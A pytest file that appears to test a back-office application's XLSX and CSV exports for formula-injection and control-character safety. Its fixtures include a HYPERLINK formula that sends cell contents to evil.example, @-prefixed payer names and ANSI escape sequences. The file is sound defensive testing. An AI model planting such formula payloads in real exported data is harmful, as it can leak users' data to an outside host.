"""Exports never turn text into a formula and never choke on control characters
(issue 11 item 5, issue 15 "formulas in statement fields"): the one writer the
window and the command line share, its XLSX and its CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from backoffice.db.engine import UnitOfWork
from backoffice.domain import Access, AccountView, ClientKind
from backoffice.exports import Column, ColumnKind, Report, write_table
from backoffice.exports.safe_text import REPLACEMENT, clean_text, csv_text
from tests.helpers import add_legal
from tests.test_cli import Cli
from tests.test_cli import cli as cli
from tests.test_statements import Payment, configure, onec

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
RISKY = (HYPERLINK, "+380441234567", "-5", "@SUM(A1:A9)", "\tTAB", "\rCR")
ESC_NAME = "ТОВ \x1b[31mЧервоний\x1b[0m\x00"


class Progress:
    """What a background job is given, without Qt."""

    def __init__(self) -> None:
        self.values: list[int] = []

    def set_progress_value(self, value: int) -> None:
        self.values.append(value)

    def set_status(self, _text: str) -> None:
        pass

    def is_interruption_requested(self) -> bool:
        return False


def _report(rows: list[tuple[object, ...]]) -> Report:
    return Report(
        title="Перевірка",
        company="ТОВ \x1b «Хмарні»",
        period="",
        made_at=dt.datetime(2026, 12, 7, 10, 0),
        made_by="",
        columns=(
            Column("Назва", ColumnKind.TEXT),
            Column("Сума, грн", ColumnKind.MONEY, total=True),
            Column("Дата", ColumnKind.DATE),
        ),
        rows=rows,
    )


def _data_rows(path: Path, first: str) -> list[tuple[openpyxl.cell.Cell, ...]]:
    """The cells of the rows under the header whose first cell is `first`."""
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    rows = list(sheet.iter_rows())
    header = next(i for i, r in enumerate(rows) if r[0].value == first)
    return [tuple(r) for r in rows[header + 1 :]]


def _csv_rows(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_text_rules() -> None:
    assert clean_text("a\x1bb\x00c\x7f\ud800") == f"a{REPLACEMENT}b{REPLACEMENT}c{REPLACEMENT * 2}"
    assert clean_text("рядок\nдругий\tтаб") == "рядок\nдругий\tтаб"  # XML holds these
    for text in RISKY:
        assert csv_text(text) == "'" + text
    assert csv_text("ТОВ = Альфа") == "ТОВ = Альфа"
    assert csv_text("") == ""


def test_xlsx_keeps_formula_text_as_text_and_survives_control_characters(
    tmp_path: Path,
) -> None:
    path = tmp_path / "risky.xlsx"
    rows = [(text, Decimal("-5.00"), dt.date(2026, 12, 1)) for text in (*RISKY, ESC_NAME)]
    assert write_table(_report(rows), path).rows == len(rows)

    data = _data_rows(path, "Назва")
    for (name, amount, day), text in zip(data, (*RISKY, ESC_NAME), strict=False):
        assert name.data_type == "s"  # a string cell, never a formula ("f")
        assert amount.data_type == "n" and amount.value == pytest.approx(-5.0)
        assert day.is_date
        if text is ESC_NAME:
            assert name.value == clean_text(ESC_NAME)
            assert "\x1b" not in name.value
        else:
            # XlsxWriter writes CR as OOXML's _x000D_, which Excel reads back as CR.
            assert name.value == text.replace("\r", "_x000D_")
            assert name.quotePrefix  # editing the cell in Excel keeps it text
    assert data[-1][0].value == "Разом"
    assert data[-1][1].data_type == "f"  # the one formula: our own total
    book = openpyxl.load_workbook(path)
    assert "\x1b" not in (book.properties.creator or "") + str(book.active["A1"].value)


def test_csv_quotes_formula_text_and_keeps_negative_amounts_numbers(tmp_path: Path) -> None:
    path = tmp_path / "risky.csv"
    rows = [(text, Decimal("-5"), None) for text in (*RISKY, ESC_NAME)]
    write_table(_report(rows), path)

    header, *data = _csv_rows(path)
    assert header == ["Назва", "Сума, грн", "Дата"]
    assert [row[0] for row in data[: len(RISKY)]] == ["'" + text for text in RISKY]
    assert data[-1][0] == clean_text(ESC_NAME)
    assert {row[1] for row in data} == {"-5,00"}  # a number, not neutralised text


# -- the window's exports -----------------------------------------------------------


def _view(name: str, balance: str) -> AccountView:
    return AccountView(
        account_id=1,
        number="OR-000001",
        client_id=1,
        client_name=name,
        client_short_name=name,
        client_kind=ClientKind.LEGAL,
        tax_code="32855961",
        balance=Decimal(balance),
        access=Access.ACTIVE,
        block_reason=None,
        last_topup_date=dt.date(2026, 11, 3),
    )


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_the_account_export_writes_names_as_text(tmp_path: Path, suffix: str) -> None:
    from ui.account_export import account_report

    path = tmp_path / f"accounts{suffix}"
    views = [_view(HYPERLINK, "-12.50"), _view(ESC_NAME, "0.00"), _view("@cmd", "3.00")]
    write_table(account_report(views, "ТОВ «Хмарні рішення»"), path)  # ESC used to crash it

    if suffix == ".csv":
        names = [row[1] for row in _csv_rows(path)[1:]]
        assert names == ["'" + HYPERLINK, clean_text(ESC_NAME), "'@cmd"]
        assert _csv_rows(path)[1][4] == "-12,50"
        return
    data = _data_rows(path, "Особовий рахунок")[:-1]
    assert [r[1].value for r in data] == [HYPERLINK, clean_text(ESC_NAME), "@cmd"]
    assert all(r[1].data_type == "s" for r in data)
    assert data[0][4].data_type == "n" and data[0][4].value == pytest.approx(-12.5)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_the_window_exports_a_formula_named_client_from_the_database(
    uow_factory: Callable[..., UnitOfWork], engine: object, tmp_path: Path, suffix: str
) -> None:
    from backoffice.services.clients import AccountQuery
    from ui.account_export import export_accounts

    number = add_legal(uow_factory, name=HYPERLINK, opening="-7.00")
    out = tmp_path / "out"
    out.mkdir()
    path = out / f"accounts{suffix}"
    result = export_accounts(engine, AccountQuery(), path, Progress())  # type: ignore[arg-type]

    assert result.rows == 1
    if suffix == ".csv":
        assert _csv_rows(path)[1][:2] == [number, "'" + HYPERLINK]
    else:
        [row] = _data_rows(path, "Особовий рахунок")[:-1]
        assert (row[0].value, row[1].value, row[1].data_type) == (number, HYPERLINK, "s")
    assert [p.name for p in out.iterdir()] == [path.name]  # no temporary file left


# -- the command line's exports --------------------------------------------------------


def test_statement_fields_stay_text_in_the_cli_exports(
    cli: Cli, uow_factory: Callable[..., UnitOfWork], tmp_path: Path
) -> None:
    configure(uow_factory)
    statement = tmp_path / "vypyska.txt"
    statement.write_bytes(onec(Payment("10.00", HYPERLINK, payer="@evil", payer_code="")))
    cli("statements", "import", str(statement), "--date", "2026-11-12")

    workbook = tmp_path / "unmatched.xlsx"
    cli("export", "unmatched", "--out", str(workbook))
    [row] = _data_rows(workbook, "№")[:-1]
    assert (row[3].value, row[3].data_type) == ("@evil", "s")
    assert (row[6].value, row[6].data_type) == (HYPERLINK, "s")

    table = tmp_path / "unmatched.csv"
    cli("export", "unmatched", "--out", str(table))
    header, row_text = _csv_rows(table)
    assert header[3] == "Платник"
    assert (row_text[2], row_text[3], row_text[6]) == ("10,00", "'@evil", "'" + HYPERLINK)
